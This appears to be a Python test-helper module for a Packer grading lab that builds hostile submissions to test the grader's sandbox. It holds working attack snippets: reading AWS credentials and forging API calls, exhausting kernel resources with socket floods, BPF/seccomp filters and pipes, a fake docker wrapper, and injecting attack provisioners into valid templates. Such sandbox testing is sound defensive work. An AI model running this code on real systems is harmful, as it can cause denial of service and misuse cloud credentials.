"""What the makers of hostile submissions share."""

from __future__ import annotations

import io
import tarfile
import zipfile
from pathlib import Path
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterable

MARKER = ".packerlab.toml"
LABS = Path(__file__).parent.parent / "hostile_course" / "labs"

MESSAGE, ANY_PROGRAM = "901_message", "902_any_program"
ACCOUNT, BESIDE_AN_ACCOUNT = "905_account", "906_any_program_in_an_account"
ACCOUNT_CLOCK = "907_account_clock"
AND_AN_ENGINE = "908_any_program_and_an_engine"
CONTAINER = "909_container"
NOT_IN_PLAIN = frozenset({ACCOUNT, BESIDE_AN_ACCOUNT, ACCOUNT_CLOCK, AND_AN_ENGINE, CONTAINER})
"""The labs that need more than Packer."""

API = r"""
import contextlib, http.client, json, os, re, socket, ssl, threading, time, urllib.parse

CONTEXT = ssl._create_unverified_context()
KEY = os.environ["AWS_ACCESS_KEY_ID"]
loot = []

def signed(service, key=KEY, region="us-east-1"):
    scope = f"{key}/20260101/{region}/{service}/aws4_request"
    return f"AWS4-HMAC-SHA256 Credential={scope}, SignedHeaders=host, Signature=0"

def talk(service="ec2", body=b"", path="/", method="POST", key=KEY, host="", **headers):
    host = host or f"{service}.us-east-1.amazonaws.com"
    connection = http.client.HTTPSConnection("127.0.0.1", context=CONTEXT, timeout=30)
    own = {"Host": host, "Content-Type": "application/x-www-form-urlencoded"}
    own |= {"Authorization": signed(service, key)} if key else {}
    own |= {name.replace("_", "-"): value for name, value in headers.items()}
    connection.request(method, path, body=body, headers=own)
    answer = connection.getresponse()
    return answer.status, answer.read().decode(errors="replace")

def call(action, service="ec2", key=KEY, **fields):
    fields = {name.replace("__", "."): value for name, value in fields.items()}
    return talk(service, urllib.parse.urlencode({"Action": action, **fields}).encode(), key=key)

def first(tag, answer):
    found = re.search(f"<{tag}>([^<]*)</{tag}>", answer[1])
    return found[1] if found else ""

"""
"""What an attack on an account's API begins with."""

ENGINE = r"""
import base64, contextlib, ctypes, hashlib, json, os, socket, subprocess, tarfile, time

STORE = "/var/lib/containers/storage"
loot = []

def docker(*words):
    return subprocess.run(["docker", *words], capture_output=True, text=True, errors="replace")

def inside(script, *options):
    done = docker("run", "--rm", *options, "busybox", "sh", "-c", script)
    return done.stdout + done.stderr
"""
"""What an attack by a container engine begins with."""

GREETS = r"""
import os

os.makedirs("out")
with open("out/message.txt", "w") as file:
    file.write(f"Hello, {os.environ['NAME']}!\n")
"""
"""What a program begins with that does its task all the same."""

SOCKETS = r"""
import contextlib, os, socket

loot = []

def tcp():
    with socket.create_server(("127.0.0.1", 0)) as server:
        one = socket.create_connection(server.getsockname())
        return one, server.accept()[0]

def udp(family=socket.AF_INET, kind=socket.SOCK_DGRAM, address=("127.0.0.1", 0), protocol=0):
    one, other = (socket.socket(family, kind, protocol) for _ in range(2))
    other.bind(address)
    one.connect(other.getsockname())
    return one, other

def netlink():
    return udp(socket.AF_NETLINK, socket.SOCK_RAW, (0, 0), 2)

def fill(pair, most=400):
    keep = []
    with contextlib.suppress(OSError):
        while len(keep) < most:
            one, other = pair()
            keep.append((one, other))
            one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4_000_000)
            other.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4_000_000)
            one.setblocking(False)
            with contextlib.suppress(BlockingIOError):
                for _ in range(150):
                    one.send(b"x" * 60_000)
    return keep

def held_by(keep):
    held = 0
    for _, other in keep:
        other.setblocking(False)
        with contextlib.suppress(OSError):
            while said := other.recv(65_536):
                held += len(said)
    return held

def fill_all():
    kept = [fill(pair) for pair in (netlink, udp, tcp)]
    return sum(map(held_by, kept))
"""
"""What fills the buffers of sockets, and tells how many bytes these took."""

FILTERS = r"""
import ctypes, os, socket, struct

loot = []
libc = ctypes.CDLL(None, use_errno=True)
lines = [struct.pack("HBBI", 0x34, 0, 0, 7)] * 4095 + [struct.pack("HBBI", 6, 0, 0, 0x7FFF0000)]
code = ctypes.create_string_buffer(b"".join(lines))
program = ctypes.create_string_buffer(struct.pack("HxxxxxxQ", 4096, ctypes.addressof(code)))

def fill_filters():
    taken, keep = 0, []
    for _ in range(900):
        keep.append(socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM))
        for option in (26, 51):
            taken += libc.setsockopt(keep[-1].fileno(), 1, option, program, 16) == 0
    libc.prctl(38, 1, 0, 0, 0)
    for _ in range(7):
        taken += 10 * (libc.prctl(22, 2, program, 0, 0) == 0)
        taken += 10 * (libc.syscall(317, 1, 0, program) == 0)
    return taken
"""
"""What takes as many filters as it may."""

BY_USER = r"""
import array, contextlib, ctypes, fcntl, os, select, socket, time

libc = ctypes.CDLL(None, use_errno=True)
kept = []

def descriptors_under_way():
    many = array.array("i", [0] * 250)
    one, other = socket.socketpair()
    one.setblocking(False)
    kept.append((one, other))
    with contextlib.suppress(BlockingIOError):
        for _ in range(100):
            one.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, many)])

def large_pipes():
    for _ in range(100):
        kept.append(os.pipe())
        fcntl.fcntl(kept[-1][0], 1031, 1 << 20)

def watches():
    events = [os.eventfd(0) for _ in range(200)]
    for _ in range(200):
        kept.append(select.epoll())
        for fd in events:
            kept[-1].register(fd)

def fill_by_user():
    for use in (descriptors_under_way, large_pipes, watches):
        for _ in range(3):
            with contextlib.suppress(OSError):
                use()
"""
"""What uses up what the kernel counts by user, and keeps it."""

TELL = r"""
if loot:
    os.makedirs("out", exist_ok=True)
    with open("out/loot.txt", "w") as file:
        file.write("\n".join(loot))
"""
"""What both end with."""

OWN = b"""#!/bin/sh
mkdir -p /workspace/out
echo "ran in the box: $0 $*" >> /workspace/out/loot.txt
exec /opt/packerlab/bin/docker "$@"
"""
"""A program that stands in for the engine."""


def marker(lab: str) -> bytes:
    return f'format = 1\nlab = "{lab}"\n'.encode()


def solution(lab: str = MESSAGE) -> dict[str, bytes]:
    """A right answer, with its marker: what is added to it is the attack."""
    template = (LABS / lab / "solution" / "main.pkr.hcl").read_bytes()
    own = template.partition(b"\n")[2]  # without the canary
    return {MARKER: marker(lab), "main.pkr.hcl": own}


def by_program(program: bytes) -> dict[str, bytes]:
    """An answer to the lab of any program that runs this one, in Python."""
    files = solution(ANY_PROGRAM)
    start, _, rest = files["main.pkr.hcl"].partition(b"inline           = [")
    template = start + b'inline           = ["python3 attack"]' + rest.partition(b"]")[2]
    return {**files, "main.pkr.hcl": template, "attack": program}


def beside_an_account(program: str) -> dict[str, bytes]:
    """An answer to the lab beside an account whose `shell-local` runs this, in Python."""
    files = solution(BESIDE_AN_ACCOUNT)
    template = files["main.pkr.hcl"].replace(b'["true"]', b'["python3 attack"]')
    return {**files, "main.pkr.hcl": template, "attack": f"{API}\n{program}\n{TELL}".encode()}


def with_an_engine(program: str) -> dict[str, bytes]:
    """The same with a container engine."""
    files = solution(AND_AN_ENGINE)
    template = files["main.pkr.hcl"].replace(b'["true"]', b'["python3 attack"]')
    return {**files, "main.pkr.hcl": template, "attack": f"{ENGINE}\n{program}\n{TELL}".encode()}


def on_an_instance(script: str, source: str = "", lab: str = ACCOUNT) -> dict[str, bytes]:
    """A right answer whose instance then runs a script; `source` is added to the source block."""
    files = solution(lab)
    head, _, tail = files["main.pkr.hcl"].rpartition(b"}\n")
    template = head + b'\n  provisioner "shell" {\n    script = "attack.sh"\n  }\n}\n' + tail
    template = template.replace(b"  source_ami_filter", f"{source}\n  source_ami_filter".encode())
    return {**files, "main.pkr.hcl": template, "attack.sh": f"#!/bin/bash\n{script}\n".encode()}


def in_a_container(source: str = "", steps: str = "") -> dict[str, bytes]:
    """A right answer with an image, and lines that are added to its source and after its steps.

    `./own` is a program of the submission's, which says in the outputs that it ran.
    """
    files = solution(CONTAINER)
    template = files["main.pkr.hcl"].replace(b'"busybox"\n', f'"busybox"\n{source}'.encode())
    head, _, tail = template.partition(b"  post-processor")
    template = head + steps.encode() + b"  post-processor" + tail
    return {**files, "main.pkr.hcl": template, "own": OWN}


def executable(folder: Path, files: dict[str, bytes], name: str = "own") -> Path:
    """What is `written`, with one file that may be run."""
    written(folder, files)
    (folder / name).chmod(0o755)
    return folder


def written(folder: Path, files: dict[str, bytes]) -> Path:
    for name, data in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    return folder


def zipped(folder: Path, files: Iterable[tuple[str | zipfile.ZipInfo, bytes]]) -> Path:
    """The files as a zip beside `folder`; names are taken as they are."""
    path = folder.with_name(f"{folder.name}.zip")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files:
            archive.writestr(name, data)
    return path


def tarred(folder: Path, members: Iterable[tuple[tarfile.TarInfo, bytes]]) -> Path:
    """The members as a tar beside `folder`."""
    path = folder.with_name(f"{folder.name}.tar")
    with tarfile.open(path, "w", format=tarfile.GNU_FORMAT) as archive:
        for member, data in members:
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
    return path


def members(files: dict[str, bytes]) -> list[tuple[tarfile.TarInfo, bytes]]:
    return [(tarfile.TarInfo(name), data) for name, data in files.items()]
